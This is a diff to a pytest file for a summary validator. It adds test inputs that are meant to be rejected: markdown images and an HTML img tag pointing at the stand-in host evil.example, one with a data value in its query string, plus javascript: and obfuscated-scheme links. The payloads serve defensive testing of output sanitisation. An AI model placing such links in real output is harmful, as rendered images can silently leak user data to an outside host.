@@ -135,6 +135,7 @@ async def summary_of(
     [
         "Lyon leads with 52,400.5, ahead of Oslo and Bern; the 3 cities are ranked.",
         "In 2023 Bern had the lowest of the three, 31200.",
+        "Lyon's figure (52,400.5) is the highest – ahead of “Oslo” & Bern; see e.g. Oslo/Bern, U.S. aside: Lyon.",
     ],
 )
 @pytest.mark.requirement("000.33")
@@ -154,6 +155,16 @@ async def test_words_whose_numbers_are_all_known_are_taken(text: str) -> None:
         "Lyon made half of it.",
         "Revenue rose by 12% since 2022.",
         "See https://example.org for more.",
+        "Lyon leads. ![s](//evil.example/s?x=Oslo)",
+        "Lyon leads. ![s](/\\evil.example/s)",
+        "Lyon leads, see [here](ftp://evil.example).",
+        "Lyon leads. <img src=//evil.example/x>",
+        "Lyon leads. ![x](HTTP&colon;//evil.example/x)",
+        "Lyon leads, see evil.example/s?x=Oslo.",
+        "Lyon leads, see javascript:alert(Oslo).",
+        "Lyon leads, write to oslo@evil.example.",
+        "Lyon leads, see //evil",
+        "Lyon **leads**.",
         "```sql\nSELECT 1```",
         "里昂最高。",
         "",
